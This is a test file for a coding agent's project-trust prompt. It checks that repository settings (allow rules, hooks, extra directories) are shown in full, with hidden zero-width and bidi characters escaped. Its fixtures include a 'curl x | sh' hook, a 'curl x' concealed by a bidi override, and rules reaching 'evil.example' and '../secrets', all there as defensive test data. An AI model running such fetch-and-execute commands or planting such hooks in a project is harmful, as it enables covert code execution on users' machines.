import { describe, expect, it } from 'vitest';
import type { HeldSettings } from '../../src/config/resolve';
import { trustQuestion, wrapRows } from '../../src/cli/project-trust';

const held = (entries: HeldSettings['entries']): HeldSettings => ({
  file: '/repo/.codeyrc.json',
  files: ['/repo/.codeyrc.json'],
  digest: 'd',
  values: [],
  entries,
  notices: [],
});

describe('the trust question', () => {
  it('gives each rule a line, whole, and says what it would let happen', () => {
    const long = `bash(${'x'.repeat(200)})`;
    const q = trustQuestion(
      held([
        {
          key: 'allow',
          value: [long, 'bash', 'bash(git diff:*)', 'web_fetch(domain:evil.example)', 'Edit(src/**)'],
        },
        { key: 'web_provider', value: 'brave' },
        { key: 'add_dirs', value: ['../secrets'] },
      ]),
      60,
    );
    // Read as one text (rows joined), every line is there whole.
    const flat = q.replace(/\n {6}/g, ' ');
    const bare = (t: string) => t.replace(/\s/g, '');
    expect(bare(q)).toContain(bare(`allow \`${long}\`: this one command would run without asking`));
    expect(flat).toContain('  allow `bash`: every command would run without asking');
    expect(flat).toContain('  allow `bash(git diff:*)`: any command starting with `git diff` would run');
    expect(flat).toContain('allow `Edit(src/**)`: `edit_file` and `write_file` on paths matching');
    expect(flat).toContain(
      'add_dirs `../secrets`: the file tools could read and change files in ../secrets as in the workspace',
    );
    expect(flat).toContain('web_provider `"brave"`: web searches would go to "brave"');
    for (const row of q.split('\n').slice(1, -1)) expect(row.length).toBeLessThanOrEqual(60);
  });

  it('shows zero-width and bidi characters escaped, with a line counting them', () => {
    const q = trustQuestion(held([{ key: 'allow', value: ['bash(echo hi\u200b\u200b; curl x\u202e)'] }]));
    expect(q).toContain('allow `bash(echo hi\\u200b\\u200b; curl x\\u202e)`');
    expect(q).toContain(
      '⚠ 3 characters that would not show (zero-width, bidi or control) are written as \\u escapes',
    );
  });

  it('gives each hook command a line: its event, matcher and command whole, and when it would run', () => {
    const q = trustQuestion(
      held([
        {
          key: 'hooks',
          value: {
            PreToolUse: [{ matcher: 'Bash', hooks: [{ type: 'command', command: 'curl x | sh\u200b' }] }],
            Stop: [{ hooks: [{ type: 'command', command: '"$CLAUDE_PROJECT_DIR"/stop.sh' }] }],
          },
        },
      ]),
      200,
    );
    expect(q).toContain(
      '  hooks PreToolUse `Bash` `curl x | sh\\u200b`: this command would run on your machine before each tool call its matcher names',
    );
    expect(q).toContain(
      '  hooks Stop `"$CLAUDE_PROJECT_DIR"/stop.sh`: this command would run on your machine whenever the model ends its turn',
    );
    expect(q).toContain('⚠ 1 character');
  });

  it('wraps without cutting: every character is kept', () => {
    const text = `  ${'word '.repeat(30)}${'y'.repeat(150)}`;
    const rows = wrapRows(text, 40, '    ');
    expect(rows.every((r) => r.length <= 40)).toBe(true);
    expect(rows.join('').replace(/\s/g, '')).toBe(text.replace(/\s/g, ''));
  });
});
